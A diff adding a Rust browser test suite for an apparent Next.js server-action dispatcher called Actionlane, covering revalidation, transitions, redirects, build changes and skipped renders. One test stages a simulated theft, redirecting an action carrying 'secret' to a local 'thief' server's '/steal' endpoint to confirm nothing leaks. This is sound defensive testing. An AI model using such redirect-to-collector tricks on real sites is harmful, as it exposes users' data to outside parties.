@@ -1,0 +1,251 @@
+//! Pages of a real Next.js app, with its own router as the host: fresh data, transitions, a thief, another build.
+
+mod thief;
+
+use std::path::{Path, PathBuf};
+
+use anyhow::{Context, Result};
+use e2e::{Browser, Driver, Kind, Www, free_port};
+use serde_json::{Value, json};
+use thief::Thief;
+
+/// The builds of the fixture app: `16.4/a` and `16.4/b`, which have the same actions under other ids.
+fn build(name: &str) -> Result<PathBuf> {
+    let builds =
+        std::env::var("ACTIONLANE_NEXTS").context("ACTIONLANE_NEXTS is not set: run these tests with `cargo xtask test --only e2e`")?;
+    Ok(Path::new(&builds).join("16.4").join(name))
+}
+
+async fn serve(name: &str, port: u16) -> Result<Www> {
+    let dir = build(name)?;
+    Www::start(&dir, port, &[], &dir.join(format!("{port}.log"))).await
+}
+
+/// What scripts have at hand: `fixture`, the app's own harness; `d`, a dispatcher; `shown(id)`, what the page shows; `until`.
+const PRELUDE: &str = r#"
+    const until = async (condition, what = condition) => {
+        for (let i = 0; i < 800; i++) {
+            const found = await condition();
+            if (found) return found;
+            await new Promise(resolve => setTimeout(resolve, 10));
+        }
+        throw new Error("still not so after 8 s: " + what);
+    };
+    const shown = id => document.querySelector(`[data-testid=${id}]`)?.textContent;
+    const fixture = await until(() => window.fixture);
+    const d = window.d ??= actionlane.createDispatcher();
+    const named = name => ({ id: fixture.ids[name], name });
+    const get = async path => (await fetch(path)).json();
+"#;
+
+async fn eval<T: serde::de::DeserializeOwned>(browser: &Browser, script: &str, args: &[Value]) -> Result<T> {
+    browser.eval(&format!("{PRELUDE}\n{script}"), args).await
+}
+
+/// Opens a page of the app with Actionlane in it.
+async fn open(browser: &Browser, url: &str) -> Result<()> {
+    browser.goto(url).await?;
+    let load = "const script = document.createElement('script');
+        script.src = '/actionlane.js';
+        const loaded = new Promise((resolve, reject) => { script.onload = resolve; script.onerror = reject; });
+        document.head.append(script);
+        await loaded;
+        await actionlane.ready();";
+    browser.eval(load, &[]).await
+}
+
+async fn on_a_page(path: &str, scene: impl AsyncFnOnce(&Browser) -> Result<()>) -> Result<()> {
+    let app = serve("a", free_port()?).await?;
+    let driver = Driver::from_env_or_start(Kind::Chromium).await?;
+    Browser::with(&driver, async |browser| {
+        open(browser, &format!("{}{path}", app.url())).await?;
+        scene(browser).await
+    })
+    .await
+}
+
+#[tokio::test]
+async fn ten_parallel_actions_that_revalidate_ask_for_fresh_data_once_each_round() -> Result<()> {
+    on_a_page("/", async |browser| {
+        let (refreshes, wrong): (Vec<usize>, Vec<String>) = eval(
+            browser,
+            "let asked = 0;
+             const real = window.fetch;
+             window.fetch = (input, init) => {
+                 if (new Headers(init?.headers).has('rsc') && !new Headers(init.headers).has('next-router-prefetch')) asked += 1;
+                 return real(input, init);
+             };
+             const refreshes = [], wrong = [];
+             for (let round = 1; round <= 200; round += 1) {
+                 asked = 0;
+                 const calls = Array.from({ length: 10 }, () => d.call(named('revalidateThisPath'), ['/'], { lane: 'parallel' }));
+                 await Promise.all(calls);
+                 await until(() => shown('path') === String(10 * round), `round ${round}`);
+                 refreshes.push(asked);
+                 const { counts } = await get('/api/state');
+                 if (counts.path !== 10 * round) wrong.push(`${counts.path} in round ${round}`);
+             }
+             return [refreshes, wrong];",
+            &[],
+        )
+        .await?;
+        assert_eq!((refreshes, wrong), (vec![1; 200], vec![]));
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a_transition_is_pending_until_the_fresh_data_is_on_the_page() -> Result<()> {
+    on_a_page("/", async |browser| {
+        let seen: Vec<(String, Option<String>)> = eval(
+            browser,
+            "const seen = [];
+             const look = () => seen.push([shown('pending'), shown('path')]);
+             const observer = new MutationObserver(look);
+             observer.observe(document.body, { subtree: true, childList: true, characterData: true });
+             await fixture.transition(() => d.call(named('revalidateThisPath')));
+             await until(() => shown('path') === '1' && shown('pending') === 'idle');
+             look();
+             return seen;",
+            &[],
+        )
+        .await?;
+        assert!(seen.iter().any(|(pending, _)| pending == "pending"), "{seen:?}");
+        let begun = seen.iter().position(|(pending, _)| pending == "pending").unwrap_or_default();
+        let stale: Vec<_> = seen[begun..].iter().filter(|(pending, path)| pending == "idle" && path.as_deref() != Some("1")).collect();
+        assert!(stale.is_empty(), "over before the fresh data was there: {seen:?}");
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a_redirect_goes_through_nexts_router() -> Result<()> {
+    on_a_page("/", async |browser| {
+        let (same, outcome, at, back): (bool, Value, String, String) = eval(
+            browser,
+            "const mark = document.documentElement;
+             const call = d.call(named('goTo'), ['/target?a=1;b=2#hash', 'push']);
+             const value = await call;
+             await until(() => shown('pathname') === '/target');
+             const at = location.href.slice(location.origin.length);
+             const { redirect, status } = await call.outcome;
+             history.back();
+             await until(() => shown('pathname') === '/');
+             return [mark === document.documentElement, { value, redirect, status }, at, location.pathname];",
+            &[],
+        )
+        .await?;
+        assert!(same, "the document was loaded anew");
+        assert_eq!((at.as_str(), back.as_str()), ("/target?a=1;b=2#hash", "/"));
+        assert_eq!(outcome["redirect"]["followed"], json!(true));
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a_redirect_left_to_next_is_followed_by_next() -> Result<()> {
+    on_a_page("/", async |browser| {
+        let (digest, at): (String, String) = eval(
+            browser,
+            "const error = await fixture.transition(() => d.call(named('goTo'), ['/target', 'push'], { redirect: 'throw' })).catch(e => e);
+             // Nobody catches it: Next's own listener navigates.
+             d.call(named('goTo'), ['/target', 'push'], { redirect: 'throw' });
+             await until(() => shown('pathname') === '/target');
+             return [error.digest, location.pathname];",
+            &[],
+        )
+        .await?;
+        assert_eq!((digest.as_str(), at.as_str()), ("NEXT_REDIRECT;push;/target;307;", "/target"));
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a_middleware_that_redirects_to_another_origin_gives_it_nothing() -> Result<()> {
+    let thief = Thief::start()?;
+    on_a_page("/", async |browser| {
+        let (code, sent): (String, String) = eval(
+            browser,
+            "const error = await d.call(named('echo'), ['secret'], { url: `/thief?to=${args[0]}&status=307` }).catch(e => e);
+             return [error.code, error.sent];",
+            &[json!(format!("{}/steal", thief.url()))],
+        )
+        .await?;
+        assert_eq!((code.as_str(), sent.as_str()), ("NETWORK", "unknown"));
+        // The thief allows everything, and a request of the page's own reaches it: it would have been seen.
+        let answer: String = eval(
+            browser,
+            "return await (await fetch(args[0], { method: 'POST', body: 'open' })).text();",
+            &[json!(format!("{}/open", thief.url()))],
+        )
+        .await?;
+        assert_eq!(answer, "thanks");
+        Ok(())
+    })
+    .await?;
+    let requests = thief.requests();
+    assert!(requests.iter().any(|request| request.contains("/open")), "{requests:?}");
+    assert!(!requests.iter().any(|request| request.contains("/steal") || request.contains("secret")), "{requests:?}");
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_page_of_another_build_writes_once_and_sees_no_error() -> Result<()> {
+    let port = free_port()?;
+    let before = serve("a", port).await?;
+    let driver = Driver::from_env_or_start(Kind::Chromium).await?;
+    Browser::with(&driver, async |browser| {
+        open(browser, before.url()).await?;
+        let old: String = eval(browser, "return fixture.ids.write", &[]).await?;
+        drop(before);
+        let _after = serve("b", port).await?;
+        let (value, new, seen, effects): (u32, String, Vec<Option<String>>, u32) = eval(
+            browser,
+            "const seen = [];
+             d.subscribe(event => event.state === 'running' && seen.push(event.recovered ? event.actionId : null));
+             const value = await d.call(named('write'), ['once']);
+             const html = await (await fetch('/')).text();
+             const ids = JSON.parse(new DOMParser().parseFromString(html, 'text/html').querySelector('#ids').textContent);
+             return [value, ids.write, seen, await get('/api/effects?key=once')];",
+            &[],
+        )
+        .await?;
+        assert_ne!(old, new, "the builds have the same ids");
+        assert_eq!((value, effects), (1, 1));
+        assert_eq!(seen, [None, Some(new)], "sent, and sent once more under its new id");
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a_skipped_render_keeps_cookies_and_leaves_the_page_out() -> Result<()> {
+    on_a_page("/heavy", async |browser| {
+        let (rendered, cookies, forwarded): (Vec<bool>, Value, Value) = eval(
+            browser,
+            "const rendered = [];
+             for (const render of ['auto', 'skip']) {
+                 const call = d.call(named('setCookies'), [{ first: render, second: render }], { render, url: '/heavy' });
+                 await call;
+                 const outcome = await call.outcome;
+                 rendered.push(outcome.rendered);
+             }
+             const cookies = await get('/api/cookies');
+             // A page that does not own the action refuses it then, so it is asked once more without.
+             const elsewhere = d.call(named('echo'), ['there'], { render: 'skip', url: '/second' });
+             const value = await elsewhere;
+             return [rendered, cookies, [value, (await elsewhere.outcome).attempts]];",
+            &[],
+        )
+        .await?;
+        assert_eq!(rendered, [true, false]);
+        assert!(cookies.as_object().is_some_and(|cookies| cookies.values().any(|value| value == "skip")), "{cookies}");
+        assert_eq!(forwarded[1], json!(2), "{forwarded}");
+        Ok(())
+    })
+    .await
+}
